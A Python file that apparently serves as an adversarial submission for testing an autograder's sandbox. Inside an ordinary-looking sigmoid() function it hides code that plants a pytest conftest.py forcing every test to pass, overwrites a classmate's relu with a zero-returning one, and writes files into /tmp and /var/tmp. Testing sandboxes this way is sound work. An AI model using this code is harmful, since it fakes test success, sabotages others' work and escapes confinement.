"""Attack: change files outside the sandbox for the next grading run.

Drops a ``conftest.py`` into the hidden-test folder that forces every test to pass, overwrites a
classmate's submission with a wrong one, and leaves files in the machine's /tmp and /var/tmp.
``TARGETS`` (filled in by the test) gives the locations and a unique token for the file names.
"""

import contextlib
from pathlib import Path

import numpy as np

TARGETS: dict = {}

POISON = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
SABOTAGE = "def relu(x):\n    return x * 0\n"


def _try_write(path, text):
    with contextlib.suppress(OSError):
        Path(path).write_text(text)


def relu(x):
    return np.maximum(x, 0.0)


def sigmoid(x):
    token = TARGETS.get("token", "gradelab-attack")
    _try_write(Path(TARGETS.get("hidden", "/nonexistent")) / "conftest.py", POISON)
    _try_write(Path(TARGETS.get("class", "/nonexistent")) / "ann" / "activations.py", SABOTAGE)
    for folder in ("/tmp", "/var/tmp"):
        _try_write(Path(folder) / f"{token}-outside", "written by a submission\n")
    return np.zeros_like(x)


def tanh(x):
    return np.tanh(x)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
